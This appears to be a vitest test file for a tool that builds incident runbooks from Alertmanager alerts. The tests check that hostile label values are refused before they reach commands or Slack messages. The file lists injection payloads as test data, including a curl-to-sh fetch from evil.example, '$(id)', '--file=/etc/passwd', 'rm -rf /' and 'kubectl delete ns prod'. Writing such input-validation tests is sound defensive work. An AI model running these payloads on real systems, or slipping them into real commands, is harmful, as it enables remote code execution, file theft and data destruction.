// Templating a runbook from an alert: values land inside the author's tokens, missing ones are
// notes and <placeholders>, and hostile label values (shell, flags, Slack markup) are refused
// before they reach a command, a Slack message or a line a person might paste into a shell.
import { describe, expect, it } from 'vitest';
import { diagnostics } from '../../jobs/registry.ts';
import { parseCommand } from '../../src/command/debug-command.ts';
import { UsageError } from '../../src/core/errors.ts';
import { loadRunbooks } from '../../src/runbooks/load-runbooks.ts';
import { mayPress, prepareRunbook, stepApplicability } from '../../src/runbooks/prepare-runbook.ts';
import { runbookPreviewText } from '../../src/runbooks/render-runbook.ts';
import { alertFacts, commandText, fillCommand, fillText, givenVariables } from '../../src/runbooks/template.ts';
import { alertmanagerEvent, kubePodCrashLooping } from '../triage/alert-events.ts';

const runbooks = loadRunbooks('runbooks', diagnostics);
const byName = (n: string) => runbooks.find((r) => r.name === n)!;

const HOSTILE = ['ranker; curl http://evil.example/x.sh | sh', '$(id)', '`reboot`', '--file=/etc/passwd', '<!channel> click <https://evil.example|here>', 'a b', 'x\nkubectl delete ns prod', "ranker' && rm -rf / '", 'p'.repeat(600)];

describe('runbook templates', () => {
  it('fills a runbook from a KubePodCrashLooping alert: labels, templated defaults, and what is still missing', () => {
    const rb = prepareRunbook(byName('model-load-failure'), { facts: alertFacts(kubePodCrashLooping('ranker-7d4b9c6f5-x2x9z', 'ml')) });
    expect(rb.variables.values).toMatchObject({ namespace: 'ml', pod: 'ranker-7d4b9c6f5-x2x9z', container: 'model-server', model_dir: '/models' });
    expect(rb.variables.origins.pod).toEqual({ origin: 'alert', field: 'labels.pod' });
    expect(rb.variables.missing).toEqual(expect.arrayContaining(['deployment', 'node']));
    const logs = rb.steps.find((s) => s.id === 'previous-logs')!;
    expect(logs).toMatchObject({ kind: 'diagnostic', tokens: ['logs', 'ml/ranker-7d4b9c6f5-x2x9z', '--previous', '--container', 'model-server'] });
    // The tokens are what /debug would accept from a person.
    if (logs.kind === 'diagnostic') expect(parseCommand(commandText(logs.tokens!), diagnostics)).toMatchObject({ kind: 'diagnostic', payload: { target: { kind: 'pod', namespace: 'ml', pod: 'ranker-7d4b9c6f5-x2x9z' }, container: 'model-server', previous: true } });
    const rollBack = rb.steps.find((s) => s.id === 'roll-back')!;
    expect(rollBack).toMatchObject({ kind: 'manual', commands: ['kubectl -n ml rollout undo deployment/<deployment>', expect.stringContaining('rollout status deployment/<deployment>')], missing: ['deployment'] });
    expect(rb.investigate).toEqual({ tokens: ['ml/ranker-7d4b9c6f5-x2x9z', 'crash', 'restarts'], command: 'ml/ranker-7d4b9c6f5-x2x9z crash restarts', missing: [] });
  });

  it('prefers a value given on the command line, and builds URLs from other variables', () => {
    const facts = alertFacts(alertmanagerEvent({ alertname: 'HighRequestLatency', namespace: 'ml', service: 'ranker', pod: 'ranker-1' }));
    const rb = prepareRunbook(byName('high-latency'), { facts, given: { port: '9000', slo_p99_ms: '250' } });
    expect(rb.variables.values.url).toBe('http://ranker.ml.svc.cluster.local:9000');
    expect(rb.steps.find((s) => s.id === 'service-health')).toMatchObject({ tokens: ['health', 'http://ranker.ml.svc.cluster.local:9000', '--slo-p99', '250'] });
    // The optional [--node …] part is dropped, not left half-filled.
    expect(rb.investigate?.tokens).toEqual(['http://ranker.ml.svc.cluster.local:9000', 'slow', '--pod', 'ml/ranker-1']);
    expect(rb.prevent.alerts[0]!.expr).toContain('service="ranker"}[5m]');
  });

  it('keeps a missing variable a note and a placeholder: the diagnostic step has no tokens, nothing throws', () => {
    const rb = prepareRunbook(byName('gpu-unavailable'), {});
    const gpu = rb.steps.find((s) => s.id === 'gpu-state')!;
    expect(gpu).toMatchObject({ kind: 'diagnostic', tokens: null, command: 'gpu <node>', missing: ['node'] });
    expect(rb.steps.find((s) => s.id === 'drain-node')).toMatchObject({ commands: ['kubectl cordon <node>', expect.stringMatching(/^kubectl drain <node> /)] });
  });

  it('leaves PromQL braces and Prometheus template syntax alone', () => {
    expect(fillText('rate(x{job="{{svc}}"}[5m]) {{ $labels.pod }}', { svc: 'ranker' }).text).toBe('rate(x{job="ranker"}[5m]) {{ $labels.pod }}');
  });

  it('inserts a value inside its token: it cannot add a word or a flag', () => {
    const out = fillCommand('logs {{namespace}}/{{pod}} [--container {{container}}]', { namespace: 'ml', pod: 'a=b,c' });
    expect(out.tokens).toEqual(['logs', 'ml/a=b,c']);
  });

  it('refuses hostile label values before they reach a command, the Slack text or a line to paste', () => {
    for (const value of HOSTILE) {
      const facts = alertFacts(alertmanagerEvent({ alertname: 'KubePodCrashLooping', namespace: 'ml', pod: value, container: value }));
      const rb = prepareRunbook(byName('model-load-failure'), { facts });
      expect(rb.variables.values.pod, value).toBeUndefined();
      expect(rb.variables.notes.join(), value).toMatch(/pod: the value from labels\.pod was refused/);
      const everything = JSON.stringify({ ...rb, variables: { ...rb.variables, notes: [] } }) + runbookPreviewText(rb);
      expect(everything.includes(value), value).toBe(false);
      expect(rb.steps.find((s) => s.id === 'previous-logs')).toMatchObject({ tokens: null, missing: ['pod'] });
    }
  });

  it('checks var=value from a person the same way, as a usage error', () => {
    const rb = byName('oom-killed');
    expect(givenVariables(rb, ['namespace=ml', 'pod=ranker-1'])).toEqual({ namespace: 'ml', pod: 'ranker-1' });
    expect(() => givenVariables(rb, ['pods=x'])).toThrow(/oom-killed has no variable "pods" \(variables: namespace, pod/);
    expect(() => givenVariables(rb, ['pod=$(id)'])).toThrow(UsageError);
    expect(() => givenVariables(rb, ['pod'])).toThrow(/not var=value/);
    expect(() => givenVariables(byName('high-latency'), ['slo_p99_ms=fast'])).toThrow(/does not match/);
  });
});

describe('step conditions and permissions', () => {
  const rb = byName('high-latency');
  it('shows a check branch only once its answer is chosen', () => {
    expect(stepApplicability(rb, 'profile-model', {})).toBe('waiting');
    expect(stepApplicability(rb, 'profile-model', { answers: { 'where-time-goes': 'model' } })).toBe('applies');
    expect(stepApplicability(rb, 'profile-model', { answers: { 'where-time-goes': 'dependency' } })).toBe('not-applicable');
    expect(stepApplicability(rb, 'recent-changes', {})).toBe('applies');
  });

  it('applies a step on the top cause only when the investigation named that cause', () => {
    expect(stepApplicability(rb, 'roll-back', {})).toBe('waiting');
    expect(stepApplicability(rb, 'roll-back', { topCause: { id: 'deploy-new-image', category: 'errors', layer: 'infrastructure' } })).toBe('applies');
    expect(stepApplicability(rb, 'roll-back', { topCause: { id: 'gpu-throttled', category: 'latency' } })).toBe('not-applicable');
    expect(stepApplicability(rb, 'roll-back', { topCause: null })).toBe('not-applicable');
  });

  it('lets only the named groups press a restricted step', () => {
    const drain = prepareRunbook(byName('gpu-unavailable')).steps.find((s) => s.id === 'drain-node')!;
    expect(mayPress(drain, { user: 'U0ONCALL', groups: ['@ml-oncall'] })).toBe(false);
    expect(mayPress(drain, { user: 'U0ONCALL', groups: ['@platform-oncall'] })).toBe(true);
    expect(mayPress(prepareRunbook(byName('gpu-unavailable')).steps[0]!, { user: 'U0ANYONE' })).toBe(true);
    expect(drain.remindAfterMinutes).toBe(10);
  });
});
